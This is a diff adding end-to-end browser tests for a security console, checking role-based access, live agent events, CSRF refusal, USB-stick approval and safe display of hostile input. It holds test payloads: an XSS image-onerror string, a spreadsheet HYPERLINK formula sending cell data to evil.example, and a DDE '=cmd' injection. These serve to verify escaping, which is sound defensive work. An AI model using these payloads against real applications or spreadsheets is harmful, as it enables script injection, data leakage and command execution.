@@ -1,0 +1,271 @@
+"""The console in Debian Chromium: roles, live events from a running agent, hostile
+strings inert on screen and in the export, CSRF refusal, approval reaching the agent.
+
+Screenshots of every page are kept under test-artifacts/screenshots/.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import time
+from typing import Any
+
+import pytest
+from baomi.v1 import events_pb2
+
+from collector.console.pages import ROUTES
+from collector.store.base import ROLES
+from tests.e2e.conftest import ACCOUNTS, PASSWORD, Site, screenshot_dir
+
+pytestmark = pytest.mark.browser
+
+XSS = "<img src=x onerror=alert(1)>"
+FORMULA_PATH = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _login(page: Any, base: str, role: str) -> None:
+    page.goto(base + "/login")
+    page.fill("input[name=name]", ACCOUNTS[role])
+    page.fill("input[name=password]", PASSWORD)
+    page.click("button[type=submit]")
+    page.wait_for_url(base + "/")
+
+
+def _wait_stored(site: Site, what: Any, seconds: float = 10.0) -> None:
+    deadline = time.monotonic() + seconds
+    while not what():
+        assert time.monotonic() < deadline, "timed out waiting for the collector"
+        time.sleep(0.05)
+
+
+def _events_of(site: Site, kind: str) -> list[events_pb2.Event]:
+    return [
+        events_pb2.Event.FromString(r.body)
+        for r in site.running.store.chain("ws-01")
+        if r.kind == kind
+    ]
+
+
+def _open(context: Any, dialogs: list[str]) -> Any:
+    page = context.new_page()
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    return page
+
+
+@pytest.mark.parametrize("role", ROLES)
+def test_each_role_sees_only_its_pages(site: Site, browser_for: Any, role: str) -> None:
+    dialogs: list[str] = []
+    page = _open(browser_for(), dialogs)
+    _login(page, site.base, role)
+    nav = sorted(
+        page.eval_on_selector_all("header nav a", "links => links.map(a => a.getAttribute('href'))")
+    )
+    mine = sorted(p.path for p in ROUTES if p.nav and role in p.roles)
+    assert nav == mine
+    shots = screenshot_dir()
+    for path in mine:
+        response = page.goto(site.base + path)
+        assert response.status == 200, path
+        name = path.strip("/").replace("/", "-") or "overview"
+        page.screenshot(path=str(shots / f"{role}-{name}.png"), full_page=True)
+    others = {p.path for p in ROUTES if p.nav and role not in p.roles}
+    for path in sorted(others):
+        response = page.goto(site.base + path)
+        assert response.status == 403, path
+        assert page.locator("#error-message").is_visible()
+    page.screenshot(path=str(shots / f"{role}-forbidden.png"))
+    # The APIs behind the pages refuse as well, whatever the browser sends.
+    api = {
+        "sysadmin": [
+            ("GET", "/events/export.csv"),
+            ("GET", "/events/stream"),
+            ("POST", "/policy/save"),
+        ],
+        "secadmin": [
+            ("GET", "/events/export.csv"),
+            ("POST", "/hosts/token"),
+            ("POST", "/audit/verify"),
+        ],
+        "auditor": [("POST", "/devices/approve"), ("POST", "/accounts/new"), ("GET", "/hosts")],
+    }[role]
+    for method, path in api:
+        response = page.request.fetch(
+            site.base + path, method=method, form={"x": "1"} if method == "POST" else None
+        )
+        assert response.status == 403, (method, path)
+    assert not dialogs
+
+
+def test_agent_event_appears_in_the_live_view_within_two_seconds(
+    site: Site, browser_for: Any
+) -> None:
+    dialogs: list[str] = []
+    page = _open(browser_for(), dialogs)
+    _login(page, site.base, "auditor")
+    page.goto(site.base + "/events?host=ws-01")
+    # Heartbeats of the running agent arrive live first: the stream is connected.
+    page.wait_for_selector("#events-body tr.new", timeout=10_000)
+    marker = f"/srv/secret/live-{time.time_ns()}.docx"
+    sent = time.monotonic()
+    site.agent.agent.emit(
+        events_pb2.Event(
+            severity=events_pb2.SEVERITY_MEDIUM,
+            file_access=events_pb2.FileAccess(
+                path=marker, action="read", user="wang", decision=events_pb2.DECISION_DENY
+            ),
+        )
+    )
+    page.wait_for_selector(f"#events-body td.summary:has-text('{marker}')", timeout=2_000)
+    took = time.monotonic() - sent
+    assert took < 2.0
+    page.screenshot(path=str(screenshot_dir() / "auditor-events-live.png"), full_page=True)
+    assert not dialogs
+
+
+def test_hostile_device_name_and_path_are_inert(site: Site, browser_for: Any) -> None:
+    dialogs: list[str] = []
+    auditor = _open(browser_for(), dialogs)
+    _login(auditor, site.base, "auditor")
+    auditor.goto(site.base + "/events?host=ws-01")
+    auditor.wait_for_selector("#events-body tr.new", timeout=10_000)  # live
+    agent = site.agent.agent
+    agent.emit(
+        events_pb2.Event(
+            severity=events_pb2.SEVERITY_MEDIUM,
+            device=events_pb2.Device(
+                action="add",
+                device_class="storage",
+                vendor_id="0781",
+                product_id="5567",
+                serial="4C53XSS0001",
+                name=XSS,
+                descriptor_hash="jEP/6WzviqdJ5VSeTUY8PatCNBKeaREvo2OqdplND/o=",
+                interfaces="08:06:50",
+                decision=events_pb2.DECISION_DENY,
+            ),
+        )
+    )
+    agent.emit(
+        events_pb2.Event(
+            severity=events_pb2.SEVERITY_MEDIUM,
+            file_access=events_pb2.FileAccess(
+                path=FORMULA_PATH,
+                action="read",
+                user="=cmd|' /C calc'!A0",
+                decision=events_pb2.DECISION_DENY,
+            ),
+        )
+    )
+    # Shown live, as text.
+    auditor.wait_for_selector("#events-body td.summary:has-text('onerror=alert(1)')", timeout=5_000)
+    auditor.wait_for_selector("#events-body td.summary:has-text('HYPERLINK')", timeout=5_000)
+    _wait_stored(site, lambda: _events_of(site, "device"))
+    device_seq = _events_of(site, "device")[-1].seq
+    # And on every page that shows them, loaded from the server.
+    for path in ("/events?host=ws-01", f"/events/ws-01/{device_seq}"):
+        auditor.goto(site.base + path)
+        assert auditor.locator("main img").count() == 0
+        assert XSS in auditor.inner_text("main")
+    auditor.screenshot(path=str(screenshot_dir() / "auditor-event-detail.png"), full_page=True)
+    auditor.goto(site.base + "/events?host=ws-01")
+    with auditor.expect_download() as download:
+        auditor.click("#export")
+    text = download.value.path().read_bytes().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + "=cmd|' /C calc'!A0" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert any(FORMULA_PATH in cell and cell.startswith("'") for cell in cells)
+    # The security administrator's devices page shows the name as text.
+    dialogs_sec: list[str] = []
+    secadmin = _open(browser_for(), dialogs_sec)
+    _login(secadmin, site.base, "secadmin")
+    secadmin.goto(site.base + "/devices")
+    assert secadmin.locator("main img").count() == 0
+    assert XSS in secadmin.inner_text("td.device-name")
+    secadmin.screenshot(path=str(screenshot_dir() / "secadmin-devices-hostile.png"), full_page=True)
+    time.sleep(0.5)  # give any injected handler the chance to fire
+    assert not dialogs and not dialogs_sec
+
+
+def test_approving_a_stick_in_the_browser_reaches_the_running_agent(
+    site: Site, browser_for: Any
+) -> None:
+    agent = site.agent.agent
+    agent.emit(
+        events_pb2.Event(
+            severity=events_pb2.SEVERITY_MEDIUM,
+            device=events_pb2.Device(
+                action="add",
+                device_class="storage",
+                vendor_id="0951",
+                product_id="1666",
+                serial="E2E-STICK-0001",
+                name="DataTraveler",
+                interfaces="08:06:50",
+                decision=events_pb2.DECISION_DENY,
+            ),
+        )
+    )
+    _wait_stored(
+        site, lambda: any(e.device.serial == "E2E-STICK-0001" for e in _events_of(site, "device"))
+    )
+    before = site.running.collector.policy.current
+    assert before is not None
+    dialogs: list[str] = []
+    page = _open(browser_for(), dialogs)
+    _login(page, site.base, "secadmin")
+    page.goto(site.base + "/devices")
+    row = page.locator("tr", has_text="E2E-STICK-0001")
+    row.locator("input[name=label]").fill("BM-E2E-001")
+    row.locator("input[name=owner]").fill("wang")
+    row.locator("select[name=level]").select_option("机密")
+    row.locator("button[type=submit]").click()
+    page.wait_for_url(site.base + "/devices")
+    after = site.running.collector.policy.current
+    assert after is not None and after.version != before.version
+    assert b"BM-E2E-001" in after.files["usb-registry.toml"]
+    # The running agent takes the signed bundle and reports the version it enforces.
+    _wait_stored(site, lambda: agent.policy.version == after.version, seconds=15)
+    _wait_stored(
+        site,
+        lambda: any(
+            e.policy_applied.version == after.version and e.policy_applied.ok
+            for e in _events_of(site, "policy_applied")
+        ),
+        seconds=15,
+    )
+    page.goto(site.base + "/devices")
+    assert "decision-allow" in page.locator("tr", has_text="E2E-STICK-0001").inner_html()
+    page.goto(site.base + "/policy/history")
+    page.screenshot(path=str(screenshot_dir() / "secadmin-policy-history.png"), full_page=True)
+    assert not dialogs
+
+
+def test_form_post_without_csrf_token_is_refused(site: Site, browser_for: Any) -> None:
+    page = _open(browser_for(), [])
+    _login(page, site.base, "sysadmin")
+    page.goto(site.base + "/hosts")
+    page.fill("form[action='/hosts/token'] input[name=host]", "ws-csrf")
+    # As a forged cross-site form would be: no token.
+    page.eval_on_selector("form[action='/hosts/token'] input[name=csrf]", "e => e.remove()")
+    with page.expect_response(re.compile(r"/hosts/token$")) as posted:
+        page.click("form[action='/hosts/token'] button[type=submit]")
+    assert posted.value.status == 403
+    assert page.locator("#error-message").is_visible()
+    page.screenshot(path=str(screenshot_dir() / "sysadmin-csrf-refused.png"))
+    refused = [
+        events_pb2.Event.FromString(r.body).console_action
+        for r in site.running.store.chain("_collector")
+        if r.kind == "console_action"
+    ]
+    assert any(a.action == "csrf_refused" and a.actor == "sam" for a in refused)
+    assert not any(a.action == "token_create" and a.target == "ws-csrf" for a in refused)
+    # With the token the same form works, and the token is shown once.
+    page.goto(site.base + "/hosts")
+    page.fill("form[action='/hosts/token'] input[name=host]", "ws-02")
+    page.click("form[action='/hosts/token'] button[type=submit]")
+    assert page.locator("#token").inner_text().startswith("bmt-")
+    page.screenshot(path=str(screenshot_dir() / "sysadmin-hosts-token.png"), full_page=True)
